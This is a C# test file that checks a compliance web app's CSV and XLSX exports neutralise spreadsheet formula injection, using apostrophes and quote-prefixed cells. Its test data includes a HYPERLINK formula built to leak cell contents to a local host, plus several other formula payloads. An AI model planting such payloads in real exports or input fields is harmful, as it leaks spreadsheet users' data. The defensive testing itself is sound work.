using System.Net;
using System.Net.Http.Json;
using System.Text;
using CleanProdFlow.Web.Compliance;
using CleanProdFlow.Web.Tests.Reception;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;

namespace CleanProdFlow.Web.Tests.Security;

/// <summary>
/// Issue 12 item 4, exports: text that a spreadsheet would run as a formula (=, +, -, @, a leading tab or carriage
/// return) is neutralised on every export — CSV with a leading apostrophe, XLSX as quote-prefixed text.
/// </summary>
public sealed class ExportInjectionTests(SqliteHostFixture host) : IClassFixture<SqliteHostFixture>
{
    private const string Hyperlink = "=HYPERLINK(\"http://127.0.0.1/x?leak=\"&A1,\"点击\")";

    public static TheoryData<string> Formulas => [Hyperlink, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"];

    [Theory]
    [MemberData(nameof(Formulas))]
    public void A_csv_cell_that_looks_like_a_formula_gets_an_apostrophe(string text)
    {
        var csv = Encoding.UTF8.GetString(ComplianceExports.Csv(new ExportTable("t", ["名称"], [[text], ["普通企业"]])));

        var cell = csv.Split("\r\n")[1];
        Assert.StartsWith(cell.StartsWith('"') ? "\"'" : "'", cell);
        Assert.Contains("\r\n普通企业\r\n", csv);
    }

    [Theory]
    [MemberData(nameof(Formulas))]
    public void An_xlsx_cell_that_looks_like_a_formula_is_quote_prefixed_text_and_never_a_formula(string text)
    {
        using var stream = new MemoryStream(ComplianceExports.Xlsx(new ExportTable("t", ["名称"], [[text], ["普通企业"]])));
        using var document = SpreadsheetDocument.Open(stream, false);
        var workbook = document.WorkbookPart!;
        var cells = workbook.WorksheetParts.Single().Worksheet.Descendants<Cell>().ToList();
        var formats = workbook.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<CellFormat>().ToList();

        Assert.DoesNotContain(cells, c => c.CellFormula is not null);
        // XML turns a carriage return into a line feed; the cell is text either way.
        Assert.Equal(text.Replace('\r', '\n'), cells[1].InlineString!.InnerText.Replace('\r', '\n'));
        Assert.True(formats[(int)cells[1].StyleIndex!.Value].QuotePrefix?.Value);
        Assert.NotEqual(true, formats[(int)(cells[2].StyleIndex?.Value ?? 0)].QuotePrefix?.Value);
    }

    [Fact]
    public async Task The_reception_export_and_the_public_list_of_an_enterprise_named_hyperlink_neutralise_it()
    {
        var code = CreditCodes.Make(71_301);
        var acceptance = await host.Factory.SignedInAsync("acceptance.suzhou");
        Assert.Equal(HttpStatusCode.Created, (await acceptance.PostAsJsonAsync("/api/v1/enterprises", new
        {
            creditCode = code, name = Hyperlink, city = "suzhou", county = "工业园区", industry = "化工", address = "@地址", onlineMonitoring = true,
        })).StatusCode);
        // Advanced: an accepted audit, admitted to the register by the province (reception takes only advanced enterprises).
        var audit = await (await host.Factory.SignedInAsync("audit-officer.suzhou")).PostAsJsonAsync($"/api/v1/enterprises/{code}/audit-results",
            new { acceptedOn = "2025-06-30", level = "Ⅱ", authority = "苏州市生态环境局", documentNumber = "苏环验〔2025〕7130号" });
        Assert.True(audit.StatusCode == HttpStatusCode.Created, await audit.Content.ReadAsStringAsync());
        var admitted = await (await host.Factory.SignedInAsync("approver.province")).PostAsJsonAsync("/api/v1/register", new { creditCode = code });
        Assert.True(admitted.StatusCode == HttpStatusCode.Created, await admitted.Content.ReadAsStringAsync());
        var today = DateOnly.FromDateTime(TimeProvider.System.GetUtcNow().ToOffset(TimeSpan.FromHours(8)).Date).ToString("yyyy-MM-dd");
        var session = await acceptance.CreateSessionAsync(today);
        Assert.True(session.StatusCode == HttpStatusCode.Created, await session.Content.ReadAsStringAsync());
        var id = (await session.JsonAsync()).GetProperty("id").GetGuid();
        var recorded = await acceptance.RecordAsync(id, new { creditCode = code, contactName = "-李工", contactPhone = "+86 512 6666 8888", category = "technology", request = "=1+1 咨询" });
        Assert.True(recorded.StatusCode == HttpStatusCode.Created, await recorded.Content.ReadAsStringAsync());

        var csv = Encoding.UTF8.GetString(await acceptance.GetByteArrayAsync($"/api/v1/reception/sessions/{id}/requests.csv"));

        var row = csv.Split("\r\n")[1];
        Assert.Contains("\"'=HYPERLINK(", row);
        Assert.Contains(",'-李工,", row);
        Assert.Contains(",'+86 512 6666 8888,", row);
        Assert.Contains(",'=1+1 咨询,", row);
        Assert.DoesNotContain(",=", row);

        var published = Encoding.UTF8.GetString(await host.Factory.CreateClient().GetByteArrayAsync("/public/advanced-enterprises.csv"));
        var line = Assert.Single(published.Split("\r\n"), l => l.Contains(code, StringComparison.Ordinal));
        Assert.Contains(",\"'=HYPERLINK(", line);
    }
}
